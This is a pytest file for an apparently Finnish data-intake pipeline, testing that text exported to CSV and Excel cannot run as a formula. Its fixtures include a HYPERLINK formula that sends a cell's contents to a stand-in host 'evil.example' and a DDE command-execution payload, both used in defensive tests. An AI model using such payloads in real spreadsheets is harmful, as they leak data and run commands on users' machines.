"""What leaves the pipeline for spreadsheets never runs as a formula: the consolidated CSVs
neutralise such text (and read back exactly), the feedback workbooks store it as text."""

from __future__ import annotations

import csv
import zipfile

import openpyxl
import pytest

from hki_intl.intake import load_submissions
from hki_intl.intake.tables import consolidate, neutralise, read_tables, restore, write_tables
from hki_intl.workbook.excel import set_text
from hki_intl.workbook.feedback import write_feedback
from tests.conftest import activity

YEAR = 2025
TEXTS = {
    "A2": '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")',
    "E2": "+358 40 123 4567",
    "G2": "@SUM(1+1)",
    "O2": "-2+3 tulosta",
    "A3": "'=jo lainausmerkillä",
    "O3": "- luettelomerkki",
}
KEYS = {"A": "title", "E": "partner_cities", "G": "partner_organisations", "O": "outcome"}


@pytest.mark.parametrize(
    "text, written",
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("- luettelo", "'- luettelo"),
        ("'=x", "''=x"),
        ("''@x", "'''@x"),
        ("-5", "-5"),
        ("+5", "+5"),
        ("-1234,50", "-1234,50"),
        ("-0.5", "-0.5"),
        ("'hello", "'hello"),
        ("a=b", "a=b"),
        ("Helsinki", "Helsinki"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_formula_text_gets_an_apostrophe_and_numbers_stay(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


def _write_texts(wb):
    for ref, value in TEXTS.items():
        set_text(wb["Toiminnot"][ref], value)  # as typed in Excel: text, not a formula
    wb["Mittarit"]["C2"] = -5  # a number, which stays a number


def test_the_csvs_neutralise_formulas_and_the_notebooks_read_what_was_typed(write_workbook, strategy, settings, tmp_path):
    write_workbook(
        {
            "Toiminnot": [activity(), activity(title="toinen")],
            "Mittarit": [{"indicator": "overnight_stays", "value_year": 2025, "value": 1}],
        },
        edit=_write_texts,
    )
    result = load_submissions(tmp_path / "inputs", [YEAR], strategy, settings)
    assert result.problems == []
    write_tables(consolidate(result), tmp_path / "data")

    with open(tmp_path / "data" / "activities.csv", encoding="utf-8", newline="") as handle:
        written = list(csv.DictReader(handle))
    for ref, value in TEXTS.items():
        assert written[int(ref[1:]) - 2][KEYS[ref[0]]] == neutralise(value)
        assert written[int(ref[1:]) - 2][KEYS[ref[0]]].startswith("'")
    with open(tmp_path / "data" / "indicators.csv", encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["value"] == "-5.0"

    back = read_tables(tmp_path / "data")["activities"]
    for ref, value in TEXTS.items():
        assert back[KEYS[ref[0]]].iloc[int(ref[1:]) - 2] == value
    assert read_tables(tmp_path / "data")["indicators"]["value"].tolist() == [-5.0]


def test_feedback_workbooks_store_formula_text_as_text(write_workbook, strategy, settings, tmp_path):
    title = '=HYPERLINK("http://evil.example","klikkaa")'
    write_workbook(
        {"Toiminnot": [activity(focus_area="outside")]},
        organisation="forum_virium",
        edit=lambda wb: set_text(wb["Toiminnot"]["A2"], title),
    )  # a finding whose item is the title
    write_workbook(edit=lambda wb: set_text(wb["Toiminnot"]["B2"], "=cmd|' /C calc'!A0"))  # a problem
    result = load_submissions(tmp_path / "inputs", [YEAR], strategy, settings)
    written = write_feedback(result, YEAR, tmp_path / "feedback", strategy)

    for path in [written.summary, *written.copies]:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    assert b"<f>" not in archive.read(name), (path.name, name)
    findings = openpyxl.load_workbook(written.summary)["Findings"]
    cell = next(c for row in findings.iter_rows() for c in row if c.value == title)
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    copy = openpyxl.load_workbook(written.copies[0])
    assert copy["Toiminnot"]["B2"].value == "=cmd|' /C calc'!A0" and copy["Toiminnot"]["B2"].data_type == "s"
